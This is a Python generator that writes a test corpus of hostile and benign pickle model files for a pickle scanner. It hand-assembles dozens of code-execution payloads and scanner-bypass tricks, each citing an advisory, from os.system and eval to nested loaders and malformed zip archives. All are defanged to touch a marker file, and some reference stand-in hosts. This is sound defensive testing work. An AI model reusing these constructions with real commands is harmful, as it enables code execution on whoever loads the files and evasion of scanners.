"""Generator of the hostile and benign pickle-bearing model corpus (nothing binary committed).

Hostile files are assembled opcode by opcode (never by pickling a live object whose
``__reduce__`` runs code), one per technique, each citing the advisory or trick it
replays. Every payload that could run would ``touch`` a marker file, so a test can prove
that scanning the whole corpus ran nothing. Benign files are made by the real libraries
(scikit-learn, joblib, xgboost, lightgbm, numpy, pandas, torch) with their own dump
functions; nothing here ever loads a pickle.

Run ``python tests/corpus/pickle_gen.py OUT`` to write the corpus for inspection.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

# -- opcode assembly ---------------------------------------------------------------------


def g0(module: str, name: str) -> bytes:
    """GLOBAL opcode (text protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def su(text: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE when long)."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL from two strings."""
    return su(module) + su(name) + b"\x93"


def call(fn: bytes, *args: bytes) -> bytes:
    """fn(*args) via MARK ... TUPLE REDUCE."""
    return fn + b"(" + b"".join(args) + b"tR"


def p2(body: bytes) -> bytes:
    """Wrap a body in PROTO 2 ... STOP."""
    return b"\x80\x02" + body + b"."


def p4(body: bytes) -> bytes:
    """Wrap a body in PROTO 4 ... STOP (no FRAME)."""
    return b"\x80\x04" + body + b"."


def cmd(marker: Path) -> str:
    """The shell command every payload would run: create the marker."""
    return f"touch {marker}"


def system(marker: Path, module: str = "os", name: str = "system") -> bytes:
    """module.name(cmd) as a protocol 2 pickle."""
    return p2(call(g0(module, name), su(cmd(marker))))


def nested(marker: Path) -> bytes:
    """A payload as bytes, for nested-loader techniques."""
    return system(marker)


def binbytes(data: bytes) -> bytes:
    """BINBYTES opcode."""
    return b"B" + struct.pack("<I", len(data)) + data


# -- hostile techniques ------------------------------------------------------------------

Builder = Callable[[Path, Path], Path]
HOSTILE: dict[str, tuple[str, Builder]] = {}


def technique(name: str, cite: str) -> Callable[[Builder], Builder]:
    """Register a builder ``(out_dir, marker) -> path`` under a test name and citation."""

    def deco(fn: Builder) -> Builder:
        HOSTILE[name] = (cite, fn)
        return fn

    return deco


def raw(name: str, cite: str, make: Callable[[Path], bytes], suffix: str = ".pkl") -> None:
    """Register a technique whose file is just the bytes ``make(marker)`` returns."""

    def build(out: Path, marker: Path) -> Path:
        path = out / f"{name}{suffix}"
        path.write_bytes(make(marker))
        return path

    technique(name, cite)(build)


raw("os_system_reduce", "classic __reduce__ -> os.system", lambda m: system(m))
raw("posix_system", "modelscan/picklescan: posix is os on Linux", lambda m: system(m, "posix"))
raw("nt_system", "nt is os on Windows", lambda m: system(m, "nt"))
raw(
    "subprocess_popen",
    "subprocess.Popen list argv",
    lambda m: p2(call(g0("subprocess", "Popen"), b"]" + su("touch") + b"a" + su(str(m)) + b"a")),
)
raw(
    "subprocess_check_output",
    "subprocess.check_output",
    lambda m: system(m, "subprocess", "check_output"),
)
raw("pty_spawn", "pty.spawn (fickling unsafe imports)", lambda m: system(m, "pty", "spawn"))
raw(
    "stack_global_memo",
    "STACK_GLOBAL with memoized strings",
    lambda m: p4(
        su("os") + b"\x94" + su("system") + b"\x94" + b"h\x00h\x01\x93" + su(cmd(m)) + b"\x85R"
    ),
)
raw(
    "memo_confusion_binput_memoize",
    "picklescan issue #14: BINPUT vs MEMOIZE memo confusion",
    lambda m: p4(
        su("os")
        + b"q\x00"
        + su("system")
        + b"q\x01"
        + su("torch._utils")
        + b"\x94"
        + su("_rebuild_tensor_v2")
        + b"\x94"
        + b"h\x00h\x01\x93"
        + su(cmd(m))
        + b"\x85R"
    ),
)
raw(
    "inst_opcode",
    "INST opcode (protocol 0)",
    lambda m: b"(S'" + cmd(m).encode() + b"'\nios\nsystem\n.",
)
raw(
    "obj_opcode",
    "OBJ opcode (protocol 1)",
    lambda m: b"(cos\nsystem\nS'" + cmd(m).encode() + b"'\no.",
)
raw(
    "newobj_popen",
    "NEWOBJ on subprocess.Popen",
    lambda m: p2(g0("subprocess", "Popen") + b"(]" + su("touch") + b"a" + su(str(m)) + b"at\x81"),
)
raw(
    "newobj_ex_popen",
    "NEWOBJ_EX on subprocess.Popen",
    lambda m: p4(sg("subprocess", "Popen") + b"(]" + su("touch") + b"a" + su(str(m)) + b"at}\x92"),
)
raw(
    "build_setstate_gadget",
    "BUILD slotstate sets __setstate__ to os.system, second BUILD calls it",
    lambda m: p2(
        call(g0("collections", "OrderedDict"))
        + b"N}"
        + su("__setstate__")
        + g0("os", "system")
        + b"s\x86b"
        + su(cmd(m))
        + b"b"
    ),
)
raw(
    "build_on_global_class",
    "BUILD on an allowlisted class object monkeypatches it",
    lambda m: p2(g0("collections", "OrderedDict") + b"}" + su("__init__") + su("x") + b"sb"),
)
raw(
    "getattr_import_chain",
    "builtins.getattr(__import__('os'), 'system')",
    lambda m: p2(
        b"("
        + call(
            g0("builtins", "getattr"), call(g0("builtins", "__import__"), su("os")), su("system")
        )
        + su(cmd(m))
        + b"tR"
    ),
)
raw(
    "builtins_eval",
    "builtins.eval",
    lambda m: (
        system(m, "builtins", "eval")
        if False
        else p2(call(g0("builtins", "eval"), su(f"__import__('os').system('{cmd(m)}')")))
    ),
)
raw(
    "builtins_exec",
    "builtins.exec",
    lambda m: p2(call(g0("builtins", "exec"), su(f"import os; os.system('{cmd(m)}')"))),
)
raw(
    "py2_builtin_eval",
    "__builtin__ (Python 2 name) fixed up by the unpickler",
    lambda m: b"c__builtin__\neval\n(S\"__import__('os').system('" + cmd(m).encode() + b"')\"\ntR.",
)
raw(
    "importlib_import_module",
    "picklescan PR #74 / issue #66: importlib",
    lambda m: p2(call(g0("importlib", "import_module"), su("os"))),
)
raw(
    "runpy_run_code",
    "runpy._run_code",
    lambda m: p2(call(g0("runpy", "_run_code"), su(f"import os;os.system('{cmd(m)}')"), b"}")),
)
raw(
    "pip_main",
    "GHSA-vqmv-47xg-9wpr: pip.main installs a package",
    lambda m: p2(call(g0("pip", "main"), b"]" + su("install") + b"a" + su("evil") + b"a")),
)
raw(
    "pip_internal",
    "pip._internal.main",
    lambda m: p2(call(g0("pip._internal", "main"), b"]" + su("install") + b"a")),
)
raw(
    "pkgutil_resolve_name",
    "GHSA-vvpj-8cmc-gx39: pkgutil.resolve_name universal bypass",
    lambda m: p2(b"(" + call(g0("pkgutil", "resolve_name"), su("os:system")) + su(cmd(m)) + b"tR"),
)
raw(
    "nested_pickle_loads",
    "GHSA-84r2-jw7c-4r5q: nested pickle.loads",
    lambda m: p2(call(g0("pickle", "loads"), binbytes(nested(m)))),
)
raw(
    "nested_underscore_pickle",
    "_pickle.loads",
    lambda m: p2(call(g0("_pickle", "loads"), binbytes(nested(m)))),
)
raw(
    "marshal_code_object",
    "PR #74: marshal.loads + types.FunctionType",
    lambda m: p2(
        call(g0("types", "FunctionType"), call(g0("marshal", "loads"), binbytes(b"\xe3fake")), b"}")
    ),
)
raw(
    "operator_methodcaller",
    "GHSA-m273-6v24-x4m4: operator.methodcaller",
    lambda m: p2(
        call(
            call(g0("operator", "methodcaller"), su("system"), su(cmd(m))),
            call(g0("importlib", "import_module"), su("os")),
        )
    ),
)
raw(
    "operator_attrgetter",
    "GHSA-955r-x9j8-7rhh: operator.attrgetter",
    lambda m: p2(call(g0("operator", "attrgetter"), su("system"))),
)
raw(
    "underscore_operator_itemgetter",
    "_operator.itemgetter",
    lambda m: p2(call(g0("_operator", "itemgetter"), su("x"))),
)
raw(
    "functools_partial",
    "functools.partial wrapping os.system",
    lambda m: p2(call(call(g0("functools", "partial"), g0("os", "system"), su(cmd(m))))),
)
raw(
    "webbrowser_open",
    "webbrowser.open",
    lambda m: p2(call(g0("webbrowser", "open"), su("http://evil.invalid/"))),
)
raw(
    "socket_connect",
    "socket.create_connection (GHSA-hgrh-qx5j-jfwx network)",
    lambda m: p2(call(g0("socket", "create_connection"), su("evil.invalid") + b"K\x50\x86")),
)
raw(
    "ctypes_cdll",
    "ctypes.CDLL loads a shared library",
    lambda m: p2(call(g0("ctypes", "CDLL"), su("libc.so.6"))),
)
raw(
    "timeit_timeit",
    "GHSA-46h3-79wf-xr6c: timeit.timeit",
    lambda m: p2(
        call(g0("timeit", "timeit"), su(f"__import__('os').system('{cmd(m)}')"), b"K\x01")
    ),
)
raw(
    "cprofile_run",
    "GHSA-4675-36f9-wf6r: cProfile.run",
    lambda m: p2(call(g0("cProfile", "run"), su(f"__import__('os').system('{cmd(m)}')"))),
)
raw("pdb_run", "pdb.run", lambda m: p2(call(g0("pdb", "run"), su("0"))))
raw(
    "asyncio_subprocess_transport",
    "CVE-2025-10157: asyncio.unix_events._UnixSubprocessTransport",
    lambda m: p2(call(g0("asyncio.unix_events", "_UnixSubprocessTransport"), su("x"))),
)
raw(
    "code_interactive_interpreter",
    "code.InteractiveInterpreter.runcode via dotted name",
    lambda m: p4(sg("code", "InteractiveInterpreter.runcode") + su("x") + b"\x85R"),
)
raw(
    "torch_load_nested",
    "nested torch.load",
    lambda m: p2(call(g0("torch", "load"), su("/tmp/x.pt"))),
)
raw(
    "torch_storage_load_from_bytes",
    "torch.storage._load_from_bytes (nested torch.load)",
    lambda m: p2(call(g0("torch.storage", "_load_from_bytes"), binbytes(b"x"))),
)
raw(
    "numpy_load_nested",
    "nested numpy.load(allow_pickle=True)",
    lambda m: p2(call(g0("numpy", "load"), su("/tmp/x.npy"))),
)
raw(
    "numpy_f2py_eval",
    "numpy.f2py.crackfortran.myeval",
    lambda m: p2(call(g0("numpy.f2py.crackfortran", "myeval"), su("1"))),
)
raw(
    "yaml_load",
    "yaml.load of an embedded document",
    lambda m: p2(call(g0("yaml", "load"), su("!!python/object/apply:os.system ['x']"))),
)
raw(
    "shelve_open",
    "shelve.open (a pickle database)",
    lambda m: p2(call(g0("shelve", "open"), su("/tmp/x"))),
)
raw("dill_loads", "dill.loads", lambda m: p2(call(g0("dill", "loads"), binbytes(b"x"))))
raw("sys_modules", "sys.modules access", lambda m: p2(g0("sys", "modules") + b"0" + b"N."[0:1]))
raw(
    "ext_opcode",
    "EXT1 reads the copyreg extension registry",
    lambda m: p2(b"\x82\x01" + su(cmd(m)) + b"\x85R"),
)
raw(
    "unicode_confusable_module",
    "fullwidth look-alike module name",
    lambda m: p4(sg("ｏｓ", "system") + su(cmd(m)) + b"\x85R"),
)
raw(
    "dunder_attribute_walk",
    "protocol 4 dotted name through __subclasses__",
    lambda m: p4(sg("builtins", "object.__subclasses__") + b")R"),
)
raw(
    "unknown_callable",
    "anything not allowlisted is a finding",
    lambda m: p2(call(g0("evilpkg.helpers", "Thing"))),
)
raw(
    "sklearn_function_not_class",
    "sklearn functions are not allowlisted like classes",
    lambda m: p2(
        call(g0("sklearn.utils._testing", "assert_run_python_script_without_output"), su("x"))
    ),
)
raw(
    "dynamic_call_of_result",
    "REDUCE calls what another call returned",
    lambda m: p2(call(call(g0("collections", "OrderedDict")))),
)
raw("payload_after_benign_stop", "second stream after STOP", lambda m: p2(b"K\x01") + system(m))
raw(
    "payload_then_garbage", "payload followed by garbage", lambda m: system(m) + b"\xff\xfe garbage"
)
raw(
    "garbage_after_benign_stop",
    "polyglot: bytes after STOP",
    lambda m: p2(b"K\x01") + b"\x00\x01not a pickle",
)
raw(
    "truncated_after_reduce",
    "GHSA-9gvj-pp9x-gcfr: stream broken after the payload",
    lambda m: system(m)[:-1],
)
raw(
    "bad_opcode_after_reduce",
    "invalid opcode after the payload",
    lambda m: system(m)[:-1] + b"\xff.",
)
raw(
    "protocol0_text",
    "protocol 0 text pickle",
    lambda m: b"cos\nsystem\n(S'" + cmd(m).encode() + b"'\ntR.",
)
raw(
    "protocol1_binary",
    "protocol 1 binary opcodes",
    lambda m: b"cos\nsystem\nq\x00(X" + struct.pack("<I", len(cmd(m))) + cmd(m).encode() + b"tR.",
)
raw(
    "frame_protocol5",
    "FRAME opcode (protocol 4/5)",
    lambda m: b"\x80\x05\x95" + struct.pack("<Q", 40) + sg("os", "system") + su(cmd(m)) + b"\x85R.",
)
raw(
    "renamed_extension",
    "CVE-2025-10155: payload under a non-pickle extension",
    lambda m: system(m),
    suffix=".bin",
)


def _joblib(name: str, cite: str, compress: Callable[[bytes], bytes]) -> None:
    raw(name, cite, lambda m: compress(system(m)), suffix=".joblib")


_joblib("joblib_zlib_payload", "joblib zlib-compressed payload", lambda b: zlib.compress(b))
_joblib("joblib_gzip_payload", "joblib gzip-compressed payload", lambda b: gzip.compress(b))
_joblib("joblib_bz2_payload", "joblib bz2-compressed payload", lambda b: bz2.compress(b))
_joblib("joblib_xz_payload", "joblib xz-compressed payload", lambda b: lzma.compress(b))
_joblib(
    "joblib_lzma_payload",
    "joblib lzma (alone) payload",
    lambda b: lzma.compress(b, format=lzma.FORMAT_ALONE),
)


def _zip(path: Path, members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> Path:
    with zipfile.ZipFile(path, "w", method) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return path


@technique("torch_zip_data_pkl", "payload in archive/data.pkl of a torch zip")
def _torch_zip(out: Path, m: Path) -> Path:
    return _zip(out / "t.pt", [("archive/data.pkl", system(m)), ("archive/version", b"3\n")])


@technique("torch_zip_odd_member", "modelscan: payload in a member not named data.pkl")
def _torch_odd(out: Path, m: Path) -> Path:
    benign = p2(b"}")
    return _zip(
        out / "t.pt",
        [
            ("archive/data.pkl", benign),
            ("archive/extra/weights.bin", system(m)),
            ("archive/version", b"3\n"),
        ],
    )


@technique("torch_zip_bad_crc", "CVE-2025-10156: bad CRC makes zipfile refuse, torch loads")
def _bad_crc(out: Path, m: Path) -> Path:
    path = _zip(out / "t.pt", [("archive/data.pkl", system(m)), ("archive/version", b"3\n")])
    data = bytearray(path.read_bytes())
    pos = data.find(b"PK\x01\x02")
    data[pos + 16 : pos + 20] = b"\xde\xad\xbe\xef"
    path.write_bytes(bytes(data))
    return path


@technique("zip_path_traversal", "zip slip: member name climbs out")
def _traversal(out: Path, m: Path) -> Path:
    return _zip(out / "t.zip", [("../../evil.pkl", p2(b"}"))])


@technique("zip_duplicate_names", "duplicated member names: loaders disagree on which wins")
def _dup(out: Path, m: Path) -> Path:
    path = out / "t.pt"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("archive/data.pkl", p2(b"}"))
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            zf.writestr("archive/data.pkl", system(m))
    return path


@technique("zip_bomb_member", "deflate bomb member (ratio)")
def _bomb(out: Path, m: Path) -> Path:
    return _zip(out / "t.zip", [("big.bin", b"\x00" * (40 * 1024 * 1024))], zipfile.ZIP_DEFLATED)


@technique("torch_legacy_tar", "legacy torch tar checkpoint with payload in 'pickle'")
def _tar(out: Path, m: Path) -> Path:
    path = out / "t.tar"
    with tarfile.open(path, "w") as tf:
        for name, data in (
            ("sys_info", p2(b"}")),
            ("pickle", system(m)),
            ("storages", p2(b"K\x00")),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return path


@technique("torch_legacy_raw", "legacy torch raw format, payload in the model pickle")
def _legacy(out: Path, m: Path) -> Path:
    magic = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
    body = magic + p2(b"M\xe9\x03") + p2(b"}") + system(m) + p2(b"]") + b"\x00" * 16
    (out / "t.pt").write_bytes(body)
    return out / "t.pt"


def npy_object(payload: bytes) -> bytes:
    """A .npy file whose object dtype makes the data a pickle."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


raw(
    "npy_object_payload",
    "numpy object array: np.load(allow_pickle=True) unpickles",
    lambda m: npy_object(system(m)),
    suffix=".npy",
)


@technique("npz_object_payload", "npz member with an object array payload")
def _npz(out: Path, m: Path) -> Path:
    return _zip(out / "t.npz", [("a.npy", npy_object(system(m)))])


# -- benign files made by the real libraries ---------------------------------------------

BENIGN: dict[str, Callable[[Path], list[Path]]] = {}


def benign(name: str) -> Callable[[Callable[[Path], list[Path]]], Callable[[Path], list[Path]]]:
    """Register a benign builder ``out_dir -> [paths]``."""

    def deco(fn: Callable[[Path], list[Path]]) -> Callable[[Path], list[Path]]:
        BENIGN[name] = fn
        return fn

    return deco


def _xy() -> tuple[object, object]:
    import numpy as np

    rng = np.random.default_rng(0)
    x = rng.normal(size=(60, 4))
    return x, (x[:, 0] > 0).astype(int)


@benign("sklearn")
def _sklearn(out: Path) -> list[Path]:
    import pickle

    import joblib
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeRegressor

    x, y = _xy()
    models = {
        "logreg": LogisticRegression(max_iter=500).fit(x, y),
        "forest": RandomForestClassifier(n_estimators=5, random_state=0).fit(x, y),
        "pipeline": make_pipeline(StandardScaler(), LogisticRegression(max_iter=500)).fit(x, y),
        "tree": DecisionTreeRegressor(max_depth=3).fit(x, y),
    }
    paths = []
    for name, model in models.items():
        for proto in (2, 4, 5):
            p = out / f"{name}_p{proto}.pkl"
            p.write_bytes(pickle.dumps(model, protocol=proto))
            paths.append(p)
        for comp in (0, "zlib", "gzip", "bz2", "lzma", "xz"):
            p = out / f"{name}_{comp}.joblib"
            joblib.dump(model, p, compress=comp if comp else 0)
            paths.append(p)
    return paths


@benign("xgboost_lightgbm")
def _boosters(out: Path) -> list[Path]:
    import pickle

    import lightgbm
    import xgboost

    x, y = _xy()
    xgb = xgboost.XGBClassifier(n_estimators=3, max_depth=2).fit(x, y)
    lgb = lightgbm.LGBMClassifier(n_estimators=3, verbose=-1).fit(x, y)
    paths = [out / "xgb.pkl", out / "lgb.pkl"]
    paths[0].write_bytes(pickle.dumps(xgb))
    paths[1].write_bytes(pickle.dumps(lgb))
    return paths


@benign("numpy_pandas")
def _numpy_pandas(out: Path) -> list[Path]:
    import numpy as np
    import pandas as pd

    a = np.arange(100, dtype=np.float32).reshape(10, 10)
    np.save(out / "a.npy", a)
    np.savez(out / "a.npz", a=a, b=np.arange(5))
    np.savez_compressed(out / "c.npz", a=a)
    df = pd.DataFrame(
        {"x": np.arange(5), "y": list("abcde"), "t": pd.date_range("2026-01-01", periods=5)}
    )
    df.to_pickle(out / "df.pkl")
    return [out / "a.npy", out / "a.npz", out / "c.npz", out / "df.pkl"]


@benign("pandas_arrow")
def _pandas_arrow(out: Path) -> list[Path]:
    """pandas 3's Arrow-backed strings (its default when pyarrow is installed)."""
    import pandas as pd
    import pyarrow  # noqa: F401  (ImportError skips the family where pyarrow is absent)

    df = pd.DataFrame({"s": pd.array(["a", None, "c"], dtype="string[pyarrow]"), "i": [1, 2, 3]})
    df.to_pickle(out / "arrow_df.pkl")
    df["s"].to_pickle(out / "arrow_series.pkl")
    return [out / "arrow_df.pkl", out / "arrow_series.pkl"]


@benign("torch")
def _torch(out: Path) -> list[Path]:
    import torch

    torch.manual_seed(0)
    net = torch.nn.Sequential(
        torch.nn.Conv2d(1, 4, 3),
        torch.nn.BatchNorm2d(4),
        torch.nn.ReLU(),
        torch.nn.Flatten(),
        torch.nn.Linear(4, 2),
        torch.nn.Dropout(0.1),
        torch.nn.LayerNorm(2),
    )
    paths = []
    for name, obj in (("sd", net.state_dict()), ("full", net)):
        p = out / f"{name}.pt"
        torch.save(obj, p)
        q = out / f"{name}_legacy.pt"
        torch.save(obj, q, _use_new_zipfile_serialization=False)
        paths += [p, q]
    return paths


def build_all(out: Path) -> tuple[dict[str, Path], Path]:
    """Write every hostile file into ``out``; return them by name and the marker path."""
    marker = out / "MARKER-must-not-exist"
    built = {}
    for name, (_, fn) in HOSTILE.items():
        d = out / name
        d.mkdir(parents=True, exist_ok=True)
        built[name] = fn(d, marker)
    return built, marker


if __name__ == "__main__":
    dest = Path(sys.argv[1] if len(sys.argv) > 1 else "pickle-corpus")
    dest.mkdir(parents=True, exist_ok=True)
    files, _ = build_all(dest / "hostile")
    for kind, fn in BENIGN.items():
        (dest / "benign" / kind).mkdir(parents=True, exist_ok=True)
        fn(dest / "benign" / kind)
    print(f"{len(files)} hostile techniques written to {dest}")
